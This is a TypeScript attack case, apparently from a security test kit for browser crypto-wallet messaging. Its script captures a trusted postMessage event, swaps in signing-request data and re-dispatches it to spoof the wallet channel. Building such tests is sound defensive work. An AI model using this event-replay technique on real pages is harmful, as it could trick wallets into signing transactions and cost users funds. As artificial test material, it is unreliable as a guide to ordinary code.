import type { Attack } from './kit/attack.ts'
import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'wire',
  how: 'Keeps a trusted message event and dispatches it again with other data.',
  script: `
    const event = await new Promise((got) => {
      addEventListener('message', got, { once: true })
      postMessage(attack.posted({ method: 'eth_chainId', params: [] }, 3), '*')
    })
    await attack.sleep(20)
    const data = attack.posted(attack.sign)
    event.initMessageEvent('message', false, false, data, location.origin, '', window, [])
    try { Object.defineProperty(event, 'data', { value: data }) } catch {}
    dispatchEvent(event)
    await attack.sleep(300)
  `,
  open: { 'wallet-before': WIRE_HEARD_FIRST },
} satisfies Attack
